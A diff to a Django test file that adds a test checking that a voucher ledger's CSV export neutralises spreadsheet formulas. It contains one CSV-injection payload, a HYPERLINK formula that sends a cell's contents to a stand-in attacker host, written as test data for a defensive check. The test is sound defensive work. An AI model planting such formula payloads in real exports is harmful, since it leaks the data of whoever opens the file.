@@ -210,3 +210,24 @@ def test_an_official_of_the_district_reads_the_same_page_and_csv(voucher) -> Non
     client = login(user)
     assert voucher.code in client.get(reverse("voucher_detail", args=[voucher.pk])).content.decode()
     assert client.get(reverse("voucher_ledger_csv", args=[voucher.pk])).status_code == 200
+
+
+def test_a_platform_reference_that_is_a_formula_reaches_the_ledger_csv_as_text(voucher) -> None:
+    platform = PlatformFactory()
+    bind(voucher.program, platform)
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
+    voucher_redeem(
+        actor=platform_actor(platform),
+        platform=platform,
+        voucher_code=voucher.code,
+        reference=formula,
+        occurred_at=timezone.now(),
+        billed_amount=Decimal("100.00"),
+    )
+    client = member_client(voucher.enterprise)
+    response = client.get(reverse("voucher_ledger_csv", args=[voucher.pk]))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert "'" + formula in {r[9] for r in rows[1:]}
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
+    # Genuine numbers stay numbers, negative ones included (a capture lowers the balance).
+    assert any(r[3].startswith("-") and r[3][1:2].isdigit() for r in rows[1:])
